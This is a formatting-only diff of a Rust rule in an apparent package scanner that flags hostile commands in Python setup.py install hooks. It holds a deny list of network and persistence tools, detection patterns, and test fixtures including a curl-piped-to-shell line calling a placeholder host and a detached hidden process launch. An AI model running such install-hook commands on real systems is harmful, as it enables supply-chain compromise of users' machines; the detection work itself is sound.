@@ -22,20 +22,104 @@ pub static INFO: RuleInfo = RuleInfo {
 };
 
 const BUILD_TOOLS: &[&str] = &[
-    "git", "hg", "svn", "make", "gmake", "cmake", "ninja", "meson", "gcc", "g++", "cc", "c++",
-    "clang", "clang++", "cl", "cl.exe", "link", "nvcc", "hipcc", "pkg-config", "pkgconf",
-    "python", "python3", "python2", "py", "cython", "swig", "cargo", "rustc", "maturin", "go",
-    "npm", "yarn", "node", "uname", "lsb_release", "xcrun", "xcode-select", "ldconfig", "which",
-    "where", "sw_vers", "llvm-config", "mpicc", "nproc", "sysctl", "getconf", "gfortran", "ar",
-    "ranlib", "strip", "install_name_tool", "otool", "ldd", "patchelf", "protoc", "bison",
-    "flex", "autoreconf", "autoconf", "configure", "./configure", "msbuild", "vcvarsall.bat",
-    "dpkg-architecture", "brew", "java", "javac", "ant", "mvn", "lipo", "sphinx-build",
+    "git",
+    "hg",
+    "svn",
+    "make",
+    "gmake",
+    "cmake",
+    "ninja",
+    "meson",
+    "gcc",
+    "g++",
+    "cc",
+    "c++",
+    "clang",
+    "clang++",
+    "cl",
+    "cl.exe",
+    "link",
+    "nvcc",
+    "hipcc",
+    "pkg-config",
+    "pkgconf",
+    "python",
+    "python3",
+    "python2",
+    "py",
+    "cython",
+    "swig",
+    "cargo",
+    "rustc",
+    "maturin",
+    "go",
+    "npm",
+    "yarn",
+    "node",
+    "uname",
+    "lsb_release",
+    "xcrun",
+    "xcode-select",
+    "ldconfig",
+    "which",
+    "where",
+    "sw_vers",
+    "llvm-config",
+    "mpicc",
+    "nproc",
+    "sysctl",
+    "getconf",
+    "gfortran",
+    "ar",
+    "ranlib",
+    "strip",
+    "install_name_tool",
+    "otool",
+    "ldd",
+    "patchelf",
+    "protoc",
+    "bison",
+    "flex",
+    "autoreconf",
+    "autoconf",
+    "configure",
+    "./configure",
+    "msbuild",
+    "vcvarsall.bat",
+    "dpkg-architecture",
+    "brew",
+    "java",
+    "javac",
+    "ant",
+    "mvn",
+    "lipo",
+    "sphinx-build",
 ];
 
 const HOSTILE: &[&str] = &[
-    "curl", "wget", "powershell", "pwsh", "certutil", "mshta", "bitsadmin", "nc", "ncat",
-    "netcat", "start", "rundll32", "regsvr32", "schtasks", "reg", "crontab", "wscript",
-    "cscript", "osascript", "chmod", "nohup", "setsid", "disown",
+    "curl",
+    "wget",
+    "powershell",
+    "pwsh",
+    "certutil",
+    "mshta",
+    "bitsadmin",
+    "nc",
+    "ncat",
+    "netcat",
+    "start",
+    "rundll32",
+    "regsvr32",
+    "schtasks",
+    "reg",
+    "crontab",
+    "wscript",
+    "cscript",
+    "osascript",
+    "chmod",
+    "nohup",
+    "setsid",
+    "disown",
 ];
 
 /// Classify a command line: 0 build tool, 1 unknown, 2 hostile.
@@ -43,7 +127,11 @@ pub fn classify(cmd: &str) -> u8 {
     let lower = cmd.to_ascii_lowercase();
     let mut words = lower.split_whitespace();
     let Some(first) = words.next() else { return 1 };
-    let base = first.rsplit(['/', '\\']).next().unwrap_or(first).trim_end_matches(".exe");
+    let base = first
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(first)
+        .trim_end_matches(".exe");
     let shell_inline = matches!(base, "sh" | "bash" | "zsh" | "cmd" | "dash")
         && lower.contains(" -c")
         || base == "cmd" && lower.contains("/c");
@@ -52,8 +140,10 @@ pub fn classify(cmd: &str) -> u8 {
     if HOSTILE.contains(&base)
         || lower.contains("http://")
         || lower.contains("https://")
-        || shell_inline && (lower.contains("curl") || lower.contains("wget") || lower.contains("http"))
-        || inline_python && (lower.contains("exec") || lower.contains("base64") || lower.contains("urllib"))
+        || shell_inline
+            && (lower.contains("curl") || lower.contains("wget") || lower.contains("http"))
+        || inline_python
+            && (lower.contains("exec") || lower.contains("base64") || lower.contains("urllib"))
     {
         return 2;
     }
@@ -74,9 +164,14 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
             .first()
             .and_then(|a| a.text().or_else(|| a.dotted.clone()))
             .or_else(|| c.kw("args").and_then(|a| a.text()));
-        let hidden = ["creationflags", "startupinfo", "start_new_session", "preexec_fn"]
-            .iter()
-            .any(|k| c.kw(k).is_some());
+        let hidden = [
+            "creationflags",
+            "startupinfo",
+            "start_new_session",
+            "preexec_fn",
+        ]
+        .iter()
+        .any(|k| c.kw(k).is_some());
         let class = match &cmd {
             Some(cmd) => classify(cmd),
             None => 1,
@@ -113,19 +208,28 @@ mod tests {
     #[test]
     fn curl_in_setup_is_high() {
         let src = "import os\nfrom setuptools import setup\nos.system('curl -s https://x.example.invalid/i | sh')\nsetup(name='x')\n";
-        assert_eq!(worst("install-hook-process", "pkg-1.0/setup.py", src), Some(Severity::High));
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", src),
+            Some(Severity::High)
+        );
     }
 
     #[test]
     fn cmdclass_run_override() {
         let src = "import subprocess\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        subprocess.Popen(['/tmp/.x/agent'], start_new_session=True)\n        install.run(self)\n";
-        assert_eq!(worst("install-hook-process", "pkg-1.0/setup.py", src), Some(Severity::High));
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", src),
+            Some(Severity::High)
+        );
     }
 
     #[test]
     fn git_version_is_info_and_modules_are_ignored() {
         let src = "import subprocess\ndef v():\n    return subprocess.check_output(['git', 'describe', '--tags'])\n";
-        assert_eq!(worst("install-hook-process", "pkg-1.0/setup.py", src), Some(Severity::Info));
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", src),
+            Some(Severity::Info)
+        );
         assert_eq!(worst("install-hook-process", "pkg/cli.py", src), None);
         assert_eq!(classify("sys.executable -m pip install x"), 0);
         assert_eq!(classify("powershell -c iex"), 2);
